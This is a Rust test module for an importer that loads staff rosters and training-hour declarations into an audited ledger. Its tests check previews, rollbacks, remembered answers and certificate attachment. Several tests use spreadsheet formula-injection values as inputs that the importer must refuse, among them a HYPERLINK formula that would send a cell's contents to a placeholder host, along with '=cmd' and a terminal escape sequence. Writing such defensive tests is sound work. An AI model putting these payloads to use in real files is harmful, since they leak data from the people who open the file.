#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::idcard::tests::make_id;
    use crate::ledger::{records, staff};

    #[test]
    fn preview_writes_nothing_and_lists_every_error_then_commit_imports() {
        let mut conn = crate::ledger::db::open_in_memory().unwrap();
        let a = make_id("370402", "19800202", "201");
        let bad = format!(
            "名单\n序号,姓名,身份证号码,科室\n1,王一,{a},内科\n2,李二,110105194912310021,外科\n"
        );
        let p = preview(
            &mut conn,
            Kind::Staff,
            "/home/u/名单.csv",
            bad.as_bytes(),
            &Options::default(),
            &table::no_progress,
        )
        .unwrap();
        assert_eq!(p.file, "名单.csv");
        assert_eq!(p.mapping.header_index, 1, "the title row is skipped");
        assert_eq!(
            p.sample[0],
            (
                3,
                vec![
                    "王一".into(),
                    crate::domain::idcard::mask(&a),
                    "内科".into(),
                    "".into(),
                    "".into(),
                    "".into(),
                    "".into(),
                    "".into(),
                    "".into(),
                    "".into()
                ]
            )
        );
        assert_eq!(
            (p.errors.len(), p.errors[0].line, p.would_import),
            (1, 4, 0)
        );
        assert_eq!(
            staff::list(&conn, &Default::default()).unwrap().0,
            0,
            "a preview keeps nothing"
        );

        let good = format!("名单\n序号,姓名,身份证号码,科室\n1,王一,{a},内科\n");
        let p = preview(
            &mut conn,
            Kind::Staff,
            "名单.csv",
            good.as_bytes(),
            &Options::default(),
            &table::no_progress,
        )
        .unwrap();
        assert_eq!(p.would_import, 1);
        assert_eq!(staff::list(&conn, &Default::default()).unwrap().0, 0);
        assert_eq!(
            commit(
                &mut conn,
                Kind::Staff,
                "名单.csv",
                good.as_bytes(),
                &Options {
                    mapping: Some(p.mapping.clone()),
                    ..Default::default()
                },
                &table::no_progress,
            )
            .unwrap()
            .imported,
            1
        );
        let trail: Vec<(String, String)> = crate::ledger::audit::log(&conn, None)
            .unwrap()
            .into_iter()
            .map(|e| (e.action, e.entity))
            .collect();
        assert_eq!(
            trail,
            [
                ("baseline", "ledger"),
                ("seal", "ledger"),
                ("baseline", "ledger"),
                ("import", "staff")
            ]
            .map(|(a, e)| (a.to_string(), e.to_string())),
            "the preview left nothing, the import one event"
        );
    }

    /// A new ledger with 王一 on its roster; returns his ID number.
    fn ledger_with_one_person() -> (Connection, String) {
        let conn = crate::ledger::db::open_in_memory().unwrap();
        let a = make_id("370402", "19800202", "201");
        crate::ledger::staff::add(
            &conn,
            &crate::ledger::staff::StaffInput {
                name: "王一".into(),
                id_number: a.clone(),
                ..Default::default()
            },
        )
        .unwrap();
        (conn, a)
    }

    #[test]
    fn an_officer_mapping_overrides_unknown_headers_and_city_rows_are_synced() {
        let (mut conn, a) = ledger_with_one_person();
        let file = format!("证件,名称,类,时间,得分\n{a},数字技术,公需,2025-04-01,12\n");
        assert!(
            preview(
                &mut conn,
                Kind::City,
                "city.csv",
                file.as_bytes(),
                &Options::default(),
                &table::no_progress
            )
            .is_err(),
            "no header matches"
        );
        let mapping = Mapping {
            header_index: 0,
            positions: vec![Some(0), Some(1), Some(2), Some(3), Some(4)],
        };
        let p = preview(
            &mut conn,
            Kind::City,
            "city.csv",
            file.as_bytes(),
            &Options {
                mapping: Some(mapping.clone()),
                ..Default::default()
            },
            &table::no_progress,
        )
        .unwrap();
        assert_eq!((p.would_import, p.errors.len()), (1, 0));
        commit(
            &mut conn,
            Kind::City,
            "city.csv",
            file.as_bytes(),
            &Options {
                mapping: Some(mapping.clone()),
                ..Default::default()
            },
            &table::no_progress,
        )
        .unwrap();
        let again = commit(
            &mut conn,
            Kind::City,
            "city.csv",
            file.as_bytes(),
            &Options {
                mapping: Some(mapping.clone()),
                ..Default::default()
            },
            &table::no_progress,
        )
        .unwrap();
        assert_eq!((again.imported, again.already_present), (0, 1));
        let r = &records::list(&conn, &Default::default()).unwrap()[0];
        assert_eq!(
            (r.status.code(), r.recognized_public.to_string()),
            ("synced", "12".to_string())
        );
        // Issue 25 item 4: the platform's export is kept whole and each synced row points at it.
        let (name, kept, sources): (String, Vec<u8>, i64) = conn
            .query_row(
                "SELECT s.name, s.bytes, (SELECT COUNT(*) FROM import_source)
                 FROM record r JOIN import_source s ON s.id = r.source_id WHERE r.id = ?1",
                [r.id],
                |x| Ok((x.get(0)?, x.get(1)?, x.get(2)?)),
            )
            .unwrap();
        assert_eq!(
            (name.as_str(), kept, sources),
            ("city.csv", file.into_bytes(), 1)
        );
        // The link is in the audit trail: cut outside the program, `audit verify` names it.
        assert!(crate::ledger::audit::verify(&conn).unwrap().holds());
        conn.execute("UPDATE record SET source_id = NULL", [])
            .unwrap();
        let v = crate::ledger::audit::verify(&conn).unwrap();
        assert!(
            v.differences.iter().any(|d| d.contains("来源文件摘要")),
            "{v:?}"
        );
    }

    /// A roster CSV of `n` sample people.
    fn roster_csv(n: usize) -> String {
        let mut file = String::from("姓名,身份证号,部门\n");
        for p in crate::dev::sample::staff_inputs(n) {
            file.push_str(&format!("{},{},{}\n", p.name, p.id_number, p.department));
        }
        file
    }

    #[test]
    fn progress_rises_through_the_stages_to_100() {
        let mut conn = crate::ledger::db::open_in_memory().unwrap();
        let file = roster_csv(4500);
        let seen = std::sync::Mutex::new(Vec::new());
        let record = |p: u32, stage: &str| {
            seen.lock().unwrap().push((p, stage.to_string()));
            Ok(())
        };
        let o = commit(
            &mut conn,
            Kind::Staff,
            "big.csv",
            file.as_bytes(),
            &Options::default(),
            &record,
        )
        .unwrap();
        assert_eq!(o.imported, 4500);
        let seen = seen.into_inner().unwrap();
        assert!(
            seen.windows(2).all(|w| w[0].0 <= w[1].0),
            "never goes backwards: {seen:?}"
        );
        assert!(
            seen.iter().any(|(_, s)| s == "检查数据") && seen.iter().any(|(_, s)| s == "写入台账")
        );
        assert_eq!(seen.last().unwrap(), &(100, "完成".to_string()));
    }

    /// Issue 14 item 2: a cancel while the rows are being written rolls the whole import back.
    #[test]
    fn a_cancel_before_the_commit_writes_nothing() {
        let mut conn = crate::ledger::db::open_in_memory().unwrap();
        let file = roster_csv(4500);
        let events = crate::ledger::audit::log(&conn, None).unwrap().len();
        let cancel_while_writing = |_: u32, stage: &str| {
            if stage == "写入台账" {
                Err(Error::Cancelled)
            } else {
                Ok(())
            }
        };
        let err = commit(
            &mut conn,
            Kind::Staff,
            "big.csv",
            file.as_bytes(),
            &Options::default(),
            &cancel_while_writing,
        )
        .unwrap_err();
        assert_eq!(err.code(), "cancelled", "{err}");
        assert_eq!(staff::list(&conn, &Default::default()).unwrap().0, 0);
        assert_eq!(
            crate::ledger::audit::log(&conn, None).unwrap().len(),
            events
        );
        assert!(conn.is_autocommit(), "no transaction left open");
    }

    fn messy(name: &str) -> Vec<u8> {
        std::fs::read(
            std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
                .join("../../tests/corpus/messy")
                .join(name),
        )
        .unwrap()
    }

    fn lines_of(errors: &[RowError]) -> Vec<usize> {
        let mut lines: Vec<usize> = errors.iter().map(|e| e.line).collect();
        lines.dedup();
        lines
    }

    /// Issue 24 on files written as clerks write them (tests/corpus/make_messy.py): the clerks'
    /// headers, words, hours and footers go through in one pass; only the real errors the
    /// generator planted remain, and the officer's answers fix or add what they can.
    #[test]
    fn declarations_as_departments_write_them_leave_only_real_errors() {
        let mut conn = crate::ledger::db::open_in_memory().unwrap();
        let none = Options::default();
        let roster = messy("人员名册.xlsx");
        let p = preview(
            &mut conn,
            Kind::Staff,
            "人员名册.xlsx",
            &roster,
            &none,
            &table::no_progress,
        )
        .unwrap();
        assert_eq!(p.ignored, ["序号", "性别", "备注"]);
        assert_eq!(
            p.skipped.iter().map(|s| s.line).collect::<Vec<_>>(),
            [504, 506, 507]
        );
        assert!(
            p.errors.is_empty(),
            "{:?}",
            &p.errors[..p.errors.len().min(3)]
        );
        let o = commit(
            &mut conn,
            Kind::Staff,
            "人员名册.xlsx",
            &roster,
            &none,
            &table::no_progress,
        )
        .unwrap();
        assert_eq!(o.imported, 500);
        let titles: i64 = conn
            .query_row("SELECT COUNT(*) FROM staff WHERE title <> ''", [], |r| {
                r.get(0)
            })
            .unwrap();
        assert_eq!(titles, 500, "专业技术职务 is read as 现职称");

        let file = messy("学时申报.xlsx");
        let asked = preview(
            &mut conn,
            Kind::Records,
            "学时申报.xlsx",
            &file,
            &none,
            &table::no_progress,
        )
        .unwrap();
        let question = |field: &str, raw: &str| {
            asked
                .questions
                .iter()
                .find(|q| q.field == field && q.raw == raw)
                .map(|q| (q.rows, q.suggestion.clone(), q.chosen.clone()))
        };
        for (raw, rows, code) in [
            ("培训", 590, "training"),
            ("学术会议", 295, "training"),
            ("论文", 106, "achievement"),
            ("继续教育平台", 368, "city_platform"),
            ("学历教育", 126, "study"),
        ] {
            assert_eq!(
                question("类别", raw),
                Some((rows, Some(code.into()), None)),
                "{raw}"
            );
        }
        assert_eq!(
            question("科目", &title_subject_key(Subject::Public)).map(|q| q.0),
            Some(253)
        );
        assert_eq!(
            asked.skipped.iter().map(|s| s.line).collect::<Vec<_>>(),
            [1498, 1500, 1501]
        );
        assert_eq!(asked.converted_total, 139 + 105 + 30 + 12 + 8 + 106);
        assert!(
            asked.error_total > 1495 && asked.errors.len() == asked.error_total,
            "every unconfirmed value is named on its row"
        );
        // The rows to correct are those with real errors: values awaiting confirmation are asked
        // once in the value questions, not on 1,495 rows.
        assert_eq!(
            asked
                .problem_rows
                .iter()
                .map(|r| r.line)
                .collect::<Vec<_>>(),
            [30, 285, 405, 549, 1010, 1075, 1357, 1478]
        );

        let accepted = Options {
            accept_suggested: true,
            ..Default::default()
        };
        let p = preview(
            &mut conn,
            Kind::Records,
            "学时申报.xlsx",
            &file,
            &accepted,
            &table::no_progress,
        )
        .unwrap();
        // The generator's planted errors, and nothing else: no stage hides another.
        assert_eq!(
            lines_of(&p.errors),
            [30, 285, 405, 549, 1010, 1075, 1357, 1478],
            "{:?}",
            p.groups
        );
        assert_eq!((p.addable_rows, p.people_to_add), (2, 0));
        assert_eq!(p.problem_rows.len(), 8);
        let digits = |cell: &str| cell.chars().filter(char::is_ascii_digit).count();
        assert!(
            p.problem_rows.iter().all(|r| digits(&r.cells[0]) < 17),
            "ID numbers are masked in the rows to correct"
        );

        let answered = Options {
            add_people: true,
            fixes: vec![
                CellFix {
                    line: 1010,
                    field: "开始日期".into(),
                    value: "2025-11-01".into(),
                },
                CellFix {
                    line: 1478,
                    field: "结束日期".into(),
                    value: "2025-02-28".into(),
                },
                CellFix {
                    line: 30,
                    field: "项目名称".into(),
                    value: "=HYPERLINK(\"http://x\")".into(),
                },
            ],
            ..accepted
        };
        let p = preview(
            &mut conn,
            Kind::Records,
            "学时申报.xlsx",
            &file,
            &answered,
            &table::no_progress,
        )
        .unwrap();
        assert_eq!(lines_of(&p.errors), [30, 405, 549, 1075]);
        assert_eq!(p.people_to_add, 2);
        assert!(
            p.errors
                .iter()
                .any(|e| e.line == 30 && e.message.contains("不能是公式")),
            "{:?}",
            p.errors
        );
        // What only the departments can answer is left out; the rest imports in one go.
        let rest = Options {
            leave_out: vec![30, 405, 549, 1075],
            ..answered
        };
        let o = commit(
            &mut conn,
            Kind::Records,
            "学时申报.xlsx",
            &file,
            &rest,
            &table::no_progress,
        )
        .unwrap();
        assert_eq!(
            (o.imported, o.people_added, o.years.clone()),
            (1491, 2, vec![2025])
        );
        let event = crate::ledger::audit::log(&conn, None)
            .unwrap()
            .into_iter()
            .last()
            .unwrap();
        let after = event.after.unwrap();
        assert_eq!(after["left_out"], serde_json::json!([30, 405, 549, 1075]));
        assert_eq!(after["records"], 1491);
    }

    /// A header the officer maps by hand and a value they answer are remembered: choosing the
    /// corrected file again asks neither again. Corrected cells import with the rest and the
    /// import event names them; hours written as days say so in the reason.
    #[test]
    fn answers_are_remembered_and_corrected_cells_are_audited() {
        let mut conn = crate::ledger::db::open_in_memory().unwrap();
        let a = make_id("370402", "19800202", "201");
        let roster = format!("姓名,身份证号,科室,岗位职称\n王一,{a},内科,主治医师\n");
        let err = preview(
            &mut conn,
            Kind::Staff,
            "r.csv",
            roster.as_bytes(),
            &Options::default(),
            &table::no_progress,
        )
        .unwrap();
        assert_eq!(err.ignored, ["岗位职称"], "said, not dropped silently");
        let mapped = Options {
            map: vec![("岗位职称".into(), "现职称".into())],
            ..Default::default()
        };
        commit(
            &mut conn,
            Kind::Staff,
            "r.csv",
            roster.as_bytes(),
            &mapped,
            &table::no_progress,
        )
        .unwrap();
        let again = format!(
            "姓名,身份证号,科室,岗位职称\n李二,{},外科,主管护师\n",
            make_id("370402", "19800303", "202")
        );
        let p = preview(
            &mut conn,
            Kind::Staff,
            "r2.csv",
            again.as_bytes(),
            &Options::default(),
            &table::no_progress,
        )
        .unwrap();
        assert!(
            p.ignored.is_empty(),
            "the taught header is remembered: {:?}",
            p.ignored
        );

        let file = format!(
            "身份证号,学习形式,项目名称,起始日期,结束日期,学时数\n\
             {a},研讨会,心电图研讨,2025-03-01,2025-03-02,2天\n\
             {a},研讨会,超声研讨,2025-04-01,2025-04-01,很多\n"
        );
        let answer = Options {
            values: vec![ValueChoice {
                field: "类别".into(),
                raw: "研讨会".into(),
                code: "培训进修".into(),
            }],
            fixes: vec![CellFix {
                line: 3,
                field: "学时".into(),
                value: "6".into(),
            }],
            ..Default::default()
        };
        let p = preview(
            &mut conn,
            Kind::Records,
            "d.csv",
            file.as_bytes(),
            &answer,
            &table::no_progress,
        )
        .unwrap();
        assert!(p.errors.is_empty(), "{:?}", p.errors);
        let o = commit(
            &mut conn,
            Kind::Records,
            "d.csv",
            file.as_bytes(),
            &answer,
            &table::no_progress,
        )
        .unwrap();
        assert_eq!((o.imported, o.years.clone()), (2, vec![2025]));
        let fresh = Options::default();
        let p = preview(
            &mut conn,
            Kind::Records,
            "d.csv",
            file.as_bytes(),
            &fresh,
            &table::no_progress,
        )
        .unwrap();
        let q = &p.questions[0];
        assert_eq!(
            (q.raw.as_str(), q.chosen.as_deref(), q.source.as_str()),
            ("研讨会", Some("training"), "已记住")
        );

        let event = crate::ledger::audit::log(&conn, None)
            .unwrap()
            .into_iter()
            .last()
            .unwrap();
        let after = event.after.unwrap();
        assert_eq!(after["fixes"][0]["old"], "很多");
        assert_eq!(after["fixes"][0]["new"], "6");
        assert_eq!(after["values"][0]["raw"], "研讨会");
        let days = records::list(&conn, &Default::default())
            .unwrap()
            .into_iter()
            .find(|r| r.title == "心电图研讨")
            .unwrap();
        assert_eq!(
            days.claimed_hours,
            Some(crate::domain::hours::Hours::from_whole(16))
        );
        assert!(days.reason.contains("按每天8学时折算"), "{}", days.reason);
    }

    #[test]
    fn an_annotated_workbook_marks_each_bad_row_for_the_department() {
        let mut conn = crate::ledger::db::open_in_memory().unwrap();
        let dir = tempfile::tempdir().unwrap();
        let out = dir.path().join("标注.xlsx");
        let file = "身份证号,类别,项目名称,开始日期,学时\n110105194912310021,培训,=cmd,2025-03-01,8\n合计,,,,8\n";
        let n = annotate(
            &mut conn,
            Kind::Records,
            "d.csv",
            file.as_bytes(),
            &Options::default(),
            &out,
        )
        .unwrap();
        assert_eq!(n, 1);
        let rows = table::raw_rows("标注.xlsx", &std::fs::read(&out).unwrap()).unwrap();
        assert_eq!(rows[0].cells().last(), Some("问题"));
        assert_eq!(rows[1].raw(2), "'=cmd", "a formula goes back as text");
        assert!(
            rows[1].cells().last().unwrap().contains("身份证号："),
            "{:?}",
            rows[1]
        );
        assert_eq!(rows[2].raw(0), "合计", "footer rows are kept as they were");
    }

    /// What an officer (or anything posing as the window) types into the preview is a cell like
    /// any other: a formula, a 32,000-character paste or a control character is refused with a
    /// message on its row, and the file's own value stays.
    #[test]
    fn hostile_corrections_are_refused_on_their_row() {
        let (mut conn, a) = ledger_with_one_person();
        let file =
            format!("身份证号,类别,项目名称,开始日期,学时\n{a},培训进修,心电图,2025-03-01,8\n");
        let fix = |value: String| CellFix {
            line: 2,
            field: "项目名称".into(),
            value,
        };
        let options = Options {
            fixes: vec![
                CellFix {
                    line: 99,
                    field: "学时".into(),
                    value: "8".into(),
                },
                CellFix {
                    line: 2,
                    field: "学分".into(),
                    value: "8".into(),
                },
                fix("=HYPERLINK(\"http://x/?\"&A2)".into()),
                fix("长".repeat(32_000)),
                fix("心电\u{1b}[2J图".into()),
                CellFix {
                    line: 2,
                    field: "学时".into(),
                    value: "@SUM(1)".into(),
                },
            ],
            ..Default::default()
        };
        let p = preview(
            &mut conn,
            Kind::Records,
            "d.csv",
            file.as_bytes(),
            &options,
            &table::no_progress,
        )
        .unwrap();
        let said: Vec<&str> = p.errors.iter().map(|e| e.message.as_str()).collect();
        assert_eq!(said.len(), 6, "{said:?}");
        assert!(
            said.contains(&"修改未采用：文件中这一行不是要导入的数据行"),
            "{said:?}"
        );
        assert!(
            said.iter().any(|m| m.contains("没有名为“学分”的字段")),
            "{said:?}"
        );
        assert!(
            said.iter().all(|m| m.starts_with("修改未采用：")),
            "{said:?}"
        );
        assert!(
            said.iter().any(|m| m.contains("内容过长（32000字）")),
            "{said:?}"
        );
        assert!(said.iter().any(|m| m.contains("控制字符")), "{said:?}");
        assert_eq!(
            p.problem_rows[0].cells[3], "心电图",
            "the file's value stays"
        );
        assert!(commit(
            &mut conn,
            Kind::Records,
            "d.csv",
            file.as_bytes(),
            &options,
            &table::no_progress
        )
        .is_err());
        assert!(records::list(&conn, &Default::default())
            .unwrap()
            .is_empty());
    }

    /// A large file with a fault on every row: the window gets the groups with the full count
    /// and the first `SHOWN_ERRORS` errors, not a message per row.
    #[test]
    fn the_window_gets_groups_and_the_first_errors_of_a_file_wrong_on_every_row() {
        let (mut conn, a) = ledger_with_one_person();
        let mut file = String::from("身份证号,类别,项目名称,开始日期,学时\n");
        for day in 0..2500 {
            file.push_str(&format!("{a},旅游,参观{day},2025-03-01,1\n"));
        }
        let p = preview(
            &mut conn,
            Kind::Records,
            "d.csv",
            file.as_bytes(),
            &Options::default(),
            &table::no_progress,
        )
        .unwrap();
        assert_eq!((p.error_total, p.errors.len()), (2500, SHOWN_ERRORS));
        assert_eq!(p.groups.len(), 1);
        assert_eq!(p.groups[0].rows, 2500);
        assert!(
            p.groups[0].message.contains("应为 市平台学习/培训进修"),
            "{}",
            p.groups[0].message
        );
        assert_eq!(p.problem_rows.len(), SHOWN_PROBLEM_ROWS);
    }

    /// Issue 25 item 1: the declarations and the departments' ZIP in one import, one transaction.
    /// The preview plans without writing a file; the import attaches what the names decide.
    #[test]
    fn declarations_and_their_certificates_import_together() {
        let dir = tempfile::tempdir().unwrap();
        let mut conn = crate::ledger::db::open(&dir.path().join("l.sqlite3")).unwrap();
        commit(
            &mut conn,
            Kind::Staff,
            "人员名册.xlsx",
            &messy("人员名册.xlsx"),
            &Options::default(),
            &table::no_progress,
        )
        .unwrap();
        let zip = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("../../tests/corpus/messy/证明材料.zip");
        let options = crate::dev::sample::messy_first_day(Some(zip.to_string_lossy().into_owned()));
        let file = messy("学时申报.xlsx");
        let p = preview(
            &mut conn,
            Kind::Records,
            "学时申报.xlsx",
            &file,
            &options,
            &table::no_progress,
        )
        .unwrap();
        let plan = p.certificates.expect("planned once the rows are good");
        assert_eq!((plan.matched.len(), plan.doubtful.len()), (1074, 20));
        assert!(
            !dir.path().join("evidence").exists(),
            "a preview writes no file"
        );
        let o = commit(
            &mut conn,
            Kind::Records,
            "学时申报.xlsx",
            &file,
            &options,
            &table::no_progress,
        )
        .unwrap();
        assert_eq!((o.imported, o.certificates_attached), (1491, 1074));
        let attached: i64 = conn
            .query_row(
                "SELECT COUNT(*) FROM audit_event WHERE action = 'attach'",
                [],
                |r| r.get(0),
            )
            .unwrap();
        assert_eq!(attached, 1074);
        let event = crate::ledger::audit::log(&conn, None)
            .unwrap()
            .into_iter()
            .last()
            .unwrap();
        assert_eq!(
            event.action, "import",
            "the import's event closes its transaction"
        );
        assert_eq!(event.after.unwrap()["certificates"]["attached"], 1074);
    }
}
